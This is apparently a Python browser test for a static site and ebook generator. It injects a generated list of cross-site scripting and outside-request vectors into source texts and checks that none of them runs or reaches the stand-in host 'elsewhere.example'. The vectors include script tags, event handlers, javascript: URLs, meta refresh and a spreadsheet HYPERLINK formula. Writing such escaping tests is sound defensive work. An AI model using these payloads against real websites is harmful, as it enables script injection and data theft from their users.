"""Texts that try to run something or to ask elsewhere, in every text of a site, and all that is published of it opened in a browser."""

from __future__ import annotations

import zipfile
from pathlib import Path

import plain
import test_escaped
from chromium import come_true, window
from conftest import DAY, run
from host import hosting
from playwright.sync_api import Browser, Page

ELSEWHERE = "elsewhere.example"
_RUNS = "window.ran=1"
_EACH = 4  # vectors in a text
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpointerenter")
_ELEMENTS = (
    "img src=x",
    "svg",
    "video src=x",
    "input autofocus",
    "details open",
    "body",
    "iframe",
    "math",
    "style",
    "object data=x",
    "marquee",
    "audio src=x",
)
_CLOSES = ("", "'>", '">', "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "?>", "</text></svg>")
_WHOLE = (
    f"<script>{_RUNS}</script>", f"<script src=//{ELSEWHERE}/x></script>", f"<link rel=stylesheet href=//{ELSEWHERE}/x>", f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>", f"<style>@import '//{ELSEWHERE}/x'</style>", f"<img src=//{ELSEWHERE}/x>",
    f"<iframe srcdoc='<script>parent.{_RUNS[7:]}</script>'>", f"<a href=javascript:{_RUNS} autofocus>x</a>", f"<svg><use href=//{ELSEWHERE}/x#a /></svg>",
    f"<svg><animate attributeName=href values=javascript:{_RUNS} /></svg>", f"<svg><foreignObject><script>{_RUNS}</script></foreignObject></svg>",
    f"\\u003cscript\\u003e{_RUNS}", f"${{{_RUNS}}}",
    f"url(//{ELSEWHERE}/x)", f"expression({_RUNS})", f"<?xml-stylesheet href='//{ELSEWHERE}/x'?", f"=HYPERLINK('//{ELSEWHERE}')", f"<form action=//{ELSEWHERE}><input autofocus",
    f"<object data=//{ELSEWHERE}/x>", f"<embed src=//{ELSEWHERE}/x>", f"<video poster=//{ELSEWHERE}/x>",
)  # fmt: skip


def vectors(count: int) -> list[str]:
    """So many, each another one: what is whole by itself, then an event of an element behind what would close whatever is around it."""
    made = [f"{end}<{name} {event}={_RUNS} n=" for end in _CLOSES for name in _ELEMENTS for event in _EVENTS]
    step = max(1, len(made) // max(1, count - len(_WHOLE)))
    return [*_WHOLE, *made[::step]][:count]


def written(vector: str) -> str:
    """As an author can write it: HTML as such is refused at its line, and a text of these signs is not."""
    return vector.replace("\\", "\\\\").replace(">", "\\>").replace("{", "\\{").replace("}", "\\}")


class Attempts(test_escaped.Nasty):
    """Texts with some vectors each, one after the other."""

    def __init__(self, chosen: list[str]) -> None:
        super().__init__()
        self.chosen = chosen

    def text(self, text: str) -> str:
        first = len(self.texts) * _EACH
        self.texts[str(first)] = text
        return " ".join((text, *(written(self.chosen[(first + each) % len(self.chosen)]) for each in range(_EACH))))


def tried(browser: Browser, room: Path, count: int) -> tuple[int, int, int]:
    """How many vectors, in how many texts, and how often something was opened. Raises AssertionError where one ran, or asked elsewhere."""
    chosen, texts, opened = vectors(count), 0, 0
    for name in ("sound", "public"):
        site, attempts = plain.site(room / name, name), Attempts(chosen)
        test_escaped.spoil(site, attempts)
        result = run("--site", site, "--date", DAY, "--no-pdf", "--out", site / "out", "--jobs", "1")
        assert result.exit_code == 0, result.output
        texts += len(attempts.texts)
        opened += _open_all(browser, site / "out", room / f"{name} books")
    return len(chosen), texts, opened


def _open_all(browser: Browser, out: Path, books: Path) -> int:
    for path in out.rglob("*.epub"):
        zipfile.ZipFile(path).extractall(books / path.stem)
    pages = sorted(str(path.relative_to(out)) for ending in ("html", "svg", "xml", "json") for path in out.rglob(f"*.{ending}"))
    inside = [path.as_uri() for ending in ("xhtml", "svg") for path in sorted(books.rglob(f"*.{ending}"))]
    context = window(browser, [])
    page, asked = context.new_page(), list[str]()
    context.on("request", lambda request: asked.append(request.url))
    opened = 0
    with hosting(out) as host, hosting(out, {}) as bare:
        for address in (*(base + path for base in (host.url, bare.url, f"file://{out}/") for path in pages), *inside):
            _open(page, address)
            opened += 1
    context.close()
    assert not [url for url in asked if ELSEWHERE in url]
    return opened


def _open(page: Page, address: str) -> None:
    """One that leads on at once is looked at where it leads."""
    page.goto(address)
    come_true(page, "document.readyState === 'complete'")
    come_true(page, "window.ran === undefined")
